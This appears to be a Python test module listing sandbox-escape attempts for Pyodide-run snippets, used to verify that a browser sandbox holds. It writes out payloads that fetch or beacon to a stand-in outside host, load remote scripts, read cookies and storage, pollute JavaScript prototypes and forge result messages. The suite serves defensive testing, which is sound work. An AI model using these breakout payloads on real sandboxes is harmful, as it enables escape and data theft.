"""What a snippet may try in order to get out. Each attempt prints ESCAPED if it worked, and what stopped it otherwise.

`OUTSIDE` and `SITE` stand for the addresses of a foreign server and of the site; tests put the true ones there, and
look at both servers and at the page afterwards.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

ESCAPED = "ESCAPED"
HELD = "held by"
TEMPLATE = """
import sys

def reach_javascript():
    return sys.stdout._write

try:
{body}
    print("ESCAPED", got)
except BaseException as error:
    print("held by", type(error).__name__)
"""


@dataclass(frozen=True)
class Attempt:
    """A way out."""

    name: str
    body: str
    """Python statements; they leave what they got in `got`, or raise."""

    def code(self, outside: str, site: str) -> str:
        """The snippet."""
        body = textwrap.indent(textwrap.dedent(self.body).strip(), "    ")
        return TEMPLATE.format(body=body).strip().replace("OUTSIDE", outside).replace("SITE", site)


BY_NAME = {
    "fetch": "from js import fetch; got = fetch('OUTSIDE/fetch')",
    "fetch of the site": "from js import fetch; got = fetch('SITE/fetch')",
    "XMLHttpRequest": """
        from js import XMLHttpRequest
        request = XMLHttpRequest.new(); request.open("GET", "OUTSIDE/xhr", False); request.send(); got = request.status
    """,
    "WebSocket": "from js import WebSocket; got = WebSocket.new('ws://OUTSIDE/socket'.replace('http://', ''))",
    "importScripts": "from js import importScripts; got = importScripts('OUTSIDE/script.js')",
    "Worker": "from js import Worker; got = Worker.new('data:text/javascript,fetch(\"OUTSIDE/worker\")')",
    "EventSource": "from js import EventSource; got = EventSource.new('OUTSIDE/events')",
    "sendBeacon": "from js import navigator; got = navigator.sendBeacon('OUTSIDE/beacon')",
    "indexedDB": "from js import indexedDB; got = indexedDB.open('secret')",
    "caches": "from js import caches; got = caches.keys()",
    "localStorage": "from js import localStorage; got = localStorage.getItem('secret')",
    "cookies": "from js import document; got = document.cookie",
    "the page": "from js import parent; got = parent.document.title",
    "self": "from js import self; got = self",
    "globalThis": "import js; got = js.globalThis",
    "postMessage": "from js import postMessage; got = postMessage({'type': 'done', 'run': 1})",
    "BroadcastChannel": "from js import BroadcastChannel; got = BroadcastChannel.new('site').postMessage('hello')",
    "MessageChannel": "from js import MessageChannel; got = MessageChannel.new().port1",
    "a message to the page's parent": "from js import window; got = window.parent.postMessage({'type': 'done'}, '*')",
    "WebTransport": "from js import WebTransport; got = WebTransport.new('OUTSIDE/transport')",
    "RTCPeerConnection": "from js import RTCPeerConnection; got = RTCPeerConnection.new()",
    "import() of JavaScript": "from pyodide.code import run_js; got = run_js('import(\"OUTSIDE/module.js\")')",
    "service worker": "from js import navigator; got = navigator.serviceWorker",
    "locks and files": "from js import navigator; got = navigator.storage.getDirectory()",
}
"""Browser interfaces, by the name under which Pyodide offers them."""

BY_PYTHON = {
    "run_js": "from pyodide.code import run_js; got = run_js('self')",
    "the module pyodide_js": "import pyodide_js; got = pyodide_js.loadPackage",
    "Pyodide's inner interface": "import pyodide_js._api; got = pyodide_js._api.config.jsglobals",
    "pyodide.http, open_url": "from pyodide.http import open_url; got = open_url('OUTSIDE/open_url').read()",
    "pyodide.http, pyxhr": "from pyodide.http import pyxhr; got = pyxhr.get('OUTSIDE/pyxhr')",
    "pyodide.http, pyfetch": """
        from pyodide.http import pyfetch
        coroutine = pyfetch("OUTSIDE/pyfetch"); got = coroutine.send(None)
    """,
    "urllib": "import urllib.request; got = urllib.request.urlopen('OUTSIDE/urllib', timeout=1).read()",
    "http.client": """
        import http.client
        connection = http.client.HTTPConnection("OUTSIDE".replace("http://", ""), timeout=1)
        connection.request("GET", "/client"); got = connection.getresponse().read()
    """,
    "webbrowser": "import webbrowser; got = webbrowser.open('OUTSIDE/webbrowser')",
    "loading a package": """
        import pyodide_js; got = pyodide_js.loadPackage("OUTSIDE/package.whl")
    """,
    "micropip": "import micropip; got = micropip.install('OUTSIDE/package.whl')",
    "the finder for JavaScript": """
        finder = next(finder for finder in sys.meta_path if type(finder).__name__ == "JsFinder")
        got = finder.jsmodules["pyodide_js"].loadPackage
    """,
    "the event loop": """
        import pyodide.webloop
        got = pyodide.webloop.scheduleCallback.constructor("return fetch('OUTSIDE/webloop')")()
    """,
}
"""Python's own doors."""

BY_JAVASCRIPT = {
    "constructor of a function": "got = reach_javascript().constructor('return self')()",
    "constructor of a constructor": "got = reach_javascript().constructor.constructor('return fetch(\"OUTSIDE/c\")')()",
    "constructor of an array": """
        from pyodide.ffi import to_js
        got = to_js([1]).constructor.constructor("return self")()
    """,
    "the prototype of all objects": """
        from pyodide.ffi import to_js
        prototype = to_js([1]).__proto__.__proto__
        prototype.polluted = "yes"
        got = to_js([1]).polluted
    """,
    "a setter on the prototype of all objects": """
        from pyodide.ffi import create_proxy, to_js
        heard = []
        to_js([1]).__proto__.__proto__.__defineSetter__("run", create_proxy(heard.append)); got = heard
    """,
    "a method of all arrays": """
        from pyodide.ffi import create_proxy, to_js
        to_js([1]).__proto__.push = create_proxy(print); got = "push"
    """,
    "a method of all functions": """
        from pyodide.ffi import create_proxy
        reach_javascript().__proto__.call = create_proxy(print); got = "call"
    """,
    "a method of all promises": """
        from pyodide.ffi import create_proxy
        import asyncio
        from pyodide.ffi import to_js
        promise = to_js(asyncio.ensure_future(asyncio.sleep(0)))
        promise.__proto__["then"] = create_proxy(print); got = "then"
    """,
    "the port by which results travel": """
        import gc
        from pyodide.ffi import JsProxy
        ports = [thing for thing in gc.get_objects() if isinstance(thing, JsProxy) and hasattr(thing, "onmessage")]
        ports[0].postMessage({"type": "done", "run": 1, "result": "{}", "ms": 0, "heap": 0}); got = ports
    """,
    "the caller": "got = reach_javascript().caller.caller",
    "what functions of the host refer to": """
        import gc
        from pyodide.ffi import JsProxy
        proxies = [thing for thing in gc.get_objects() if isinstance(thing, JsProxy) and hasattr(thing, "postMessage")]
        got = proxies[0]
    """,
    "frames of the host": """
        frame = sys._getframe()
        while frame.f_back:
            frame = frame.f_back
        got = next(value for value in frame.f_locals.values() if hasattr(value, "postMessage"))
    """,
}
"""From the functions of the host that a snippet can get hold of, over JavaScript's own objects."""

ATTEMPTS = [Attempt(name, body) for group in (BY_NAME, BY_PYTHON, BY_JAVASCRIPT) for name, body in group.items()]

CRASHING = {
    "emscripten_run_script": """
        import ctypes
        ctypes.CDLL(None).emscripten_run_script(b"fetch('OUTSIDE/ctypes')"); got = "ran"
    """,
    "a socket": """
        import socket
        connection = socket.create_connection(("127.0.0.1", 9), timeout=1)
        connection.send(b"GET / HTTP/1.0"); got = "sent"
    """,
}
"""Ways out at which Python itself may end, which is as good an end as an exception."""

TAMPERING = {
    "builtins": "import builtins\nbuiltins.print = lambda *words: None\nbuiltins.len = lambda thing: 42",
    "NumPy": "import numpy as np\nnp.exp = lambda x: x\nnp.array = None\nnp.random.default_rng = None",
    "modules": "import sys, math\nmath.sqrt = None\nsys.modules['numpy'] = math\n"
    "sys.meta_path.clear()\nsys.path.clear()",
    "streams": "import sys\nsys.stdout = sys.stderr = None\nsys.settrace(lambda *a: None)",
    "JSON, by which results travel": 'import json\njson.dumps = lambda *a, **k: \'{"error": null, "checks": []}\'',
}
"""What one run may replace; the next one must not notice."""

CHECK = (
    "import json, math\nimport numpy as np\nprint(len('abc'), math.sqrt(4), np.exp(np.array([0.0])), json.dumps([1]))"
)
CHECKED = "3 2.0 [1.] [1]"
